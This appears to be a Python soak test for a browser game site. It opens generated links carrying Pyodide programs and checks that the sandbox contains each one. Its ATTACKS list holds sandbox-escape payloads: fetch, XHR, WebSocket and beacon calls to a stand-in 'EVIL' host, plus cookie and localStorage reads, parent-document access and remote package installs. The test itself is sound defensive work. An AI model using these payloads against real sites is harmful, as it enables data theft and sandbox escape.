"""Open hostile links in the site's page for games: python -m tests.soak.opened_links [--firefox].

Each link is opened, looked at, and run if the page offers that. Its program says that it ran before
it attacks, and afterwards what held it, so that the report counts attacks and not links. Counted as
failures: a program that runs before the click, an attack that succeeds, a script in the page, a
read of what the site stores, a request to any other host, a page that no longer answers, and a
whole program that is refused: only damaged ones may be. It isn't among the campaigns of
``make soak``'s table, for it needs a browser and the site.
"""

from __future__ import annotations

import argparse
import base64
import json
import re
import subprocess
import threading
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from random import Random
from tempfile import TemporaryDirectory
from typing import Any, NamedTuple

from playwright.sync_api import sync_playwright

from tests.browser.firefox import FIREFOX, FRONTEND
from tests.browser.make_page import elsewhere
from tests.soak.injection import CORPUS
from tests.soak.mutations import mutated_text
from tools import site
from tools.chromium import SHELLS, find

BODY = '''
import js, json
from pyodide.ffi import to_js
import piecepack_nb as pp
from piecepack_nb.design import Board
EVIL = {evil!r}
class Tried(Exception):
    pass
def told(text):
    js.postMessage(js.JSON.parse(json.dumps({{"kind": "failed", "text": text}})))
def attack():
    {attack}
told("RAN {number}.")
try:
    attack()
    told("OUT {number}.")
except BaseException as error:
    told("HELD {number} by " + type(error).__name__ + ".")
@pp.register
class Game{number}(Board):
    """{doc}"""
    title = {title!r}
    author = {title!r}
    rulebook = "HO-1 Hostile. " + {title!r}
    places = Board.squares(3, 3)
    seats = ("suns", "moons")
    def move(self, table, place):
        table[place] = table.seat
    def prompt(self, table, picks):
        return {title!r}
'''
"""A program: an attack that returns has got out; ``Tried`` leaves that to the other host to say."""
ATTACKS = (
    "js.WorkerGlobalScope.prototype.fetch.call(js.self, EVIL); raise Tried",
    "js.fetch(EVIL); raise Tried", "js.localStorage.getItem('secret')",
    "x = js.XMLHttpRequest.new(); x.open('GET', EVIL, True); x.send(); raise Tried",
    "x = js.XMLHttpRequest.new(); x.open('GET', EVIL, False); x.send()",
    "js.importScripts(EVIL)", "js.eval('1')", "js.Function.new('return 1')()", "js.parent.document",
    "js.document.cookie", "js.window.open(EVIL)", "js.indexedDB.open('x'); raise Tried",
    "import urllib.request as u; u.urlopen(EVIL)",
    "import socket; socket.create_connection(EVIL[7:-5].split(':'), 1).send(b'x')",
    "js.location.assign(EVIL)", "js.location.href = EVIL; raise Tried", "js.top.document",
    "js.caches.keys()", "js.BroadcastChannel.new('x').postMessage('x'); raise Tried",
    "js.self.close(); raise Tried", "from pyodide.http import open_url; open_url(EVIL)",
    "js.WebSocket.new(EVIL.replace('http', 'ws')); raise Tried",
    "js.EventSource.new(EVIL); raise Tried", "import micropip; micropip.install(EVIL)",
    "js.Worker.new(EVIL); raise Tried", "js.navigator.sendBeacon(EVIL)", "raise SystemExit",
    "js.navigator.serviceWorker.getRegistrations(); raise Tried",
    "js.navigator.storage.getDirectory(); raise Tried",
    "js.postMessage(js.JSON.parse('{\"kind\": \"open\", \"state\": null}')); raise Tried",
    "js.postMessage(js.JSON.parse('{\"kind\": \"height\", \"value\": 1e9}')); raise Tried",
    "[told('again') for _ in range(2000)]; raise Tried", "__import__('os')._exit(1)",
    "del js.self.postMessage; raise Tried",
    "from js import Blob, URL; js.importScripts(URL.createObjectURL(Blob.new(to_js(['1']))))",
)  # fmt: skip
TRY = """async (link) => {
  const [status, stranger] = ["status", "stranger"].map((id) => document.getElementById(id));
  const said = [];
  const heard = new MutationObserver(() => said.push(status.textContent));
  heard.observe(status, { childList: true });
  const pause = (time) => new Promise((done) => setTimeout(done, time));
  const until = async (holds, patience) => {
    for (const end = Date.now() + patience; !holds() && Date.now() < end; ) await pause(20);
    return holds();
  };
  history.replaceState(null, "", "#");
  location.hash = link;
  await until(() => said.length, 5000);
  await pause(60);
  const early = said.splice(0);
  const shown = !stranger.hidden;
  if (shown) document.getElementById("stranger-run").click();
  const token = /(RAN|OUT|HELD) [0-9]+/;
  const isOver = () => said.some((each) => each && !token.test(each));
  const answered = !shown || (await until(isOver, 40000));
  await pause(60);
  heard.disconnect();
  const [hacked, secret] = [globalThis.hacked ?? null, localStorage.getItem("secret")];
  return { early, said, shown, answered, pathname: location.pathname, hacked, secret };
}"""
"""Opens a link and runs it; returns all that the page said before and after the click."""


class Hostile(NamedTuple):
    """A hostile link, the attack of its program, and if the program is whole."""

    number: int
    link: str
    attack: str
    is_whole: bool


LAST_DAMAGED = 5
"""The last kind of a link that is damaged."""


def packed(kind: str, content: object, version: int = 1) -> str:
    """Return the fragment of a link with any content."""
    packer = zlib.compressobj(9, wbits=-15)
    raw = packer.compress(json.dumps(content).encode()) + packer.flush()
    return f"#{kind}{version}.{base64.urlsafe_b64encode(raw).decode().rstrip('=')}"


def hostile(number: int, evil: str, random: Random) -> Hostile:
    """Return a hostile link; in half of them the program is damaged, or none at all."""
    attack, title = random.choice(ATTACKS), random.choice(CORPUS)
    doc = "".join(each for each in title if each not in '"\\\x00')
    program = BODY.format(evil=evil, number=number, attack=attack, title=title, doc=doc)
    kind = random.randrange(12)
    return Hostile(number, _link(kind, program, title, random), attack, kind > LAST_DAMAGED)


def _link(kind: int, program: str, title: str, random: Random) -> str:
    if kind == 0:
        return mutated_text(packed("game", {"program": program}), random)
    if kind == 1:
        return packed(random.choice(("match", "maze", "game")), "x" * 10 ** random.randrange(8))
    if kind == 2:
        return packed("game", {"program": program}, version=random.choice((0, 2, 9999)))
    if kind == 3:
        return packed("match", {"program": program, "record": {"game": title}})
    if kind == 4:
        return packed("game", {"program": mutated_text(program, random)})
    if kind == LAST_DAMAGED:
        return packed("maze", {"maze": title * random.randrange(1, 50)})
    return packed("game", {"program": program})


def outcome(each: Hostile, found: dict[str, Any]) -> str:
    """Return how a link ended; raise AssertionError if something of it got out."""
    number = each.number
    said = " ".join(found["said"])
    assert "RAN" not in " ".join(found["early"]), f"it ran before the click: {found['early']}"
    assert f"OUT {number}." not in said, f"it got out: {said}"
    assert found["hacked"] is None, "its script ran in the page"
    assert found["secret"] == "x", f"what the site stores is {found['secret']!r}"
    assert found["pathname"].endswith("/make/"), f"the page went to {found['pathname']}"
    assert found["answered"], f"the page no longer answers: {said}"
    if f"RAN {number}." not in said:
        assert not each.is_whole, f"a whole program is refused: {found['early']} {said}"
        return "refused by Python" if found["shown"] else "refused by the page"
    held = re.search(rf"HELD {number} by (\w+)", said)
    return f"attacked, held by {held[1]}" if held else "attacked, and its Python was ended"


# --- browsers ------------------------------------------------------------------------------------

Evaluate = Callable[[str, object], Any]
"""Runs a function of JavaScript with a value in the page, and returns its result."""


@contextmanager
def chromium(address: str) -> Iterator[Evaluate]:
    """Open the page in Chromium."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=find(*SHELLS), args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(address)
        yield page.evaluate
        browser.close()


@contextmanager
def firefox(address: str) -> Iterator[Evaluate]:
    """Open the page in Firefox."""
    with TemporaryDirectory(ignore_cleanup_errors=True) as home:
        command = ["node", "browsers/firefox_page.mjs", str(FIREFOX), address, home]
        pipe = subprocess.PIPE
        with subprocess.Popen(command, cwd=FRONTEND, stdin=pipe, stdout=pipe, text=True) as node:
            asks, answers = node.stdin, node.stdout
            assert asks is not None
            assert answers is not None

            def evaluate(code: str, given: object) -> Any:
                print(json.dumps([code, given]), file=asks, flush=True)
                return json.loads(answers.readline())

            yield evaluate
            asks.close()


def main() -> int:
    """Try many links, and print what became of them; return 1 if anything got out."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--size", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--firefox", action="store_true", help="in Firefox instead of Chromium")
    given = parser.parse_args()
    random, wrong = Random(given.seed), list[str]()
    ends, attacks = Counter[str](), Counter[str]()
    opened = firefox if given.firefox else chromium
    with site.server() as serving, elsewhere() as (evil, asked):
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        with opened(f"http://127.0.0.1:{serving.server_address[1]}/make/#x") as evaluate:
            evaluate("(value) => localStorage.setItem('secret', value)", "x")
            for number in range(given.size):
                each = hostile(number, evil, random)
                try:
                    ended = outcome(each, evaluate(TRY, each.link))
                    assert not asked, f"another host was asked {asked.pop()}"
                except AssertionError as error:
                    ended = "wrong"
                    wrong.append(f"link {number}: {str(error)[:300]}: {each.attack}")
                ends[ended] += 1
                attacks[each.attack] += ended.startswith("attacked")
                if number % 50 == 49:
                    print(f"{number + 1} links: {dict(ends)}", flush=True)
        serving.shutdown()
    print(f"{attacks.total()} attacks of {given.size} links ran: {dict(ends.most_common())}")
    print(*(f"{count:4} {attack}" for attack, count in attacks.most_common()), sep="\n")
    print(*wrong[:10], sep="\n")
    return int(bool(wrong))


if __name__ == "__main__":
    raise SystemExit(main())
